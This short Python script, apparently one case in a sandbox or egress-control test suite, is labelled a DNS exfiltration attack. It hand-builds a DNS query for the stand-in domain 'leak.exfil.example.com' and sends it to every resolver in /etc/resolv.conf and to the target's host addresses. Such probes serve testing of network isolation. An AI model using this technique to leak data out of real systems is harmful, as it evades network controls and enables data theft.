# attack: dns_raw_query
# category: dns_exfil
# kind: dns
# describe: a hand-built DNS query sent over UDP to every resolver and host address
import json
T = json.load(open("target.json"))

import socket, struct
name = b"".join(bytes([len(p)]) + p for p in b"leak.exfil.example.com".split(b".")) + b"\0"
packet = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + name + struct.pack(">HH", 1, 1)
servers = set(T["host_ips"])
try:
    servers |= {l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")}
except OSError:
    pass
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for ip in servers:
    try:
        s.sendto(packet, (ip, 53))
    except OSError as e:
        print(ip, e)
